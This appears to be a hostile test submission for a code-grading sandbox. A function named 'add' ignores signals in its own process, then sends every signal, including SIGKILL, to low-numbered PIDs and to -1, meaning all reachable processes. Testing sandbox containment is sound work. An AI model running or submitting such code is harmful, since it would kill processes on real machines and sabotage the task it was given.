# expect: incorrect | runtime_error
# assignment: add
# how: Sends every signal to every process that it may.
# needs: processes
import os
import signal


def add(a, b):
    me = os.getpid()
    for number in range(1, 65):
        if number in (signal.SIGKILL, signal.SIGSTOP):
            continue
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    for pid in [-1, *range(1, 1000)]:
        if pid == me:
            continue
        for number in range(64, 0, -1):
            if pid > 0 or number not in (signal.SIGKILL, signal.SIGSTOP):
                try:
                    os.kill(pid, number)
                except OSError:
                    pass
    return 0
